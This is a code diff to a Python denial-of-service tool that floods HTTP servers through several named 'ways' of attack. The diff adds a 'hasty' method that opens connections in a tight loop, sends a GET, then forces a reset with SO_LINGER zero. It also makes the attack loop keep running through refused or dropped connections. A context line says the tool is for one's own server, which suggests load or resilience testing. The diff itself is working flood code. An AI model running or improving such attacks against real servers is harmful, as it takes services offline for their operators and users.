@@ -9,11 +9,11 @@ It prints "attacking" once it has begun. It is for a server of one's own on this
 import sys
 import time
 import zlib
-from collections.abc import Callable, Iterator
-from contextlib import contextmanager, suppress
+from collections.abc import Callable
+from contextlib import suppress
 from functools import cache
 from io import BytesIO
-from socket import create_connection, socket
+from socket import SO_LINGER, SOL_SOCKET, create_connection, socket
 from struct import pack
 from threading import Thread
 
@@ -33,14 +33,9 @@ class Target:
         self._place = (host, port)
         self._source = source
 
-    @contextmanager
-    def reached(self) -> Iterator[socket]:
-        """A connection; that it is closed or refused is what an attacker expects."""
-        with (
-            suppress(OSError),
-            create_connection(self._place, timeout=30, source_address=(self._source, 0)) as connection,
-        ):
-            yield connection
+    def reached(self) -> socket:
+        """A connection. Raises OSError where it is refused, which an attacker expects."""
+        return create_connection(self._place, timeout=30, source_address=(self._source, 0))
 
     def head(self, method: str, path: str, *lines: str) -> bytes:
         """The head of a request."""
@@ -116,6 +111,14 @@ def unread(target: Target) -> None:
         time.sleep(60)
 
 
+def hasty(target: Target) -> None:
+    """Pages asked for, and the connections broken off at once, as fast as it goes."""
+    for _ in range(100):
+        with target.reached() as connection:
+            connection.sendall(target.head("GET", target.page))
+            connection.setsockopt(SOL_SOCKET, SO_LINGER, pack("ii", 1, 0))
+
+
 def asking(target: Target) -> None:
     """Pages asked for as fast as they come."""
     _send(target, target.head("GET", target.page, "Connection: close"))
@@ -133,6 +136,7 @@ WAYS: dict[str, tuple[Callable[[Target], None], int]] = {
     "many-parts": (many_parts, SOME),
     "small-chunks": (small_chunks, SOME),
     "unread": (unread, MANY),
+    "hasty": (hasty, SOME),
     "asking": (asking, 2 * SOME),
 }
 
@@ -192,7 +196,8 @@ def _corners() -> bytes:
 
 def _again_and_again(way: Callable[[Target], None], target: Target) -> None:
     while True:
-        way(target)
+        with suppress(OSError):  # refused, or closed in the middle
+            way(target)
         time.sleep(PAUSE)
 
 
